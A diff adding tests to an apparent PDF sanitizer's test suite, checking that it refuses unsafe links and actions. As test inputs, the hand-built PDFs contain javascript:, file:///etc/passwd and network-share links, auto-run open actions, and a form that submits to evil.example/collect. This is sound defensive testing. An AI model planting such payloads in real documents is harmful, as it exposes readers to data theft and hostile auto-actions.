@@ -98,6 +98,62 @@ describe('active content is refused', () => {
   });
 });
 
+describe('links and actions that reach outside the document are refused', () => {
+  const linkTo = (uri: string) =>
+    handMadePdf([
+      ...CATALOG_AND_PAGE,
+      `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ${uri} >> >>`,
+    ]);
+
+  it('a link to javascript:, file:, data:, smb: or a network share; web, e-mail and phone links pass', async () => {
+    for (const uri of [
+      '(javascript:alert\\(1\\))',
+      '(file:///etc/passwd)',
+      '(data:text/html,hi)',
+      '(smb://host/share)',
+    ]) {
+      expect([uri, await refusalOf(linkTo(uri))]).toEqual([uri, 'unsafeLink']);
+    }
+    expect(await refusalOf(linkTo('(\\\\\\\\fileserver\\\\share\\\\x.exe)'))).toBe('unsafeLink');
+    // Hex-encoded "javascript:x" is the same link.
+    expect(await refusalOf(linkTo(`<${Buffer.from('javascript:x').toString('hex')}>`))).toBe('unsafeLink');
+    for (const uri of [
+      '(https://example.com/a)',
+      '(HTTP://example.com)',
+      '(mailto:office@example.com)',
+      '(tel:+442079460000)',
+    ]) {
+      expect([uri, await refusalOf(linkTo(uri))]).toEqual([uri, 'ok']);
+    }
+  });
+
+  it('a link opened by itself when the document or a page opens; a jump inside the document on open passes', async () => {
+    const [catalog, ...rest] = CATALOG_AND_PAGE;
+    const withCatalog = (extra: string) => handMadePdf([catalog!.replace('>>', `${extra} >>`), ...rest]);
+    expect(await refusalOf(withCatalog('/OpenAction << /S /URI /URI (https://example.com) >>'))).toBe('autoAction');
+    expect(
+      await refusalOf(
+        withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x.example) >> >>'),
+      ),
+    ).toBe('autoAction');
+    expect(await refusalOf(withCatalog('/OpenAction [3 0 R /Fit]'))).toBe('ok');
+    expect(await refusalOf(withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'))).toBe('ok');
+    const [, pages, page] = CATALOG_AND_PAGE;
+    const pageOpens = page!.replace(/>>\s*$/, '/AA << /O << /S /URI /URI (https://example.com) >> >> >>');
+    expect(await refusalOf(handMadePdf([catalog!, pages!, pageOpens]))).toBe('autoAction');
+  });
+
+  it('a form that submits to a website, an import of data from a file, a link to another file', async () => {
+    const button = (action: string) =>
+      handMadePdf([...CATALOG_AND_PAGE, `<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A ${action} >>`]);
+    expect(await refusalOf(button('<< /S /SubmitForm /F (https://evil.example/collect) >>'))).toBe('form');
+    expect(await refusalOf(button('<< /S /ImportData /F (data.fdf) >>'))).toBe('import');
+    expect(await refusalOf(button('<< /S /GoToR /F (\\\\\\\\server\\\\share\\\\other.pdf) /D [0 /Fit] >>'))).toBe(
+      'unsafeLink',
+    );
+  });
+});
+
 describe('decompression bombs are refused, in bounded time', () => {
   it('200 MB of zeros in a page, Flate-packed to ~200 kB', async () => {
     const bomb = await flateBomb(200);
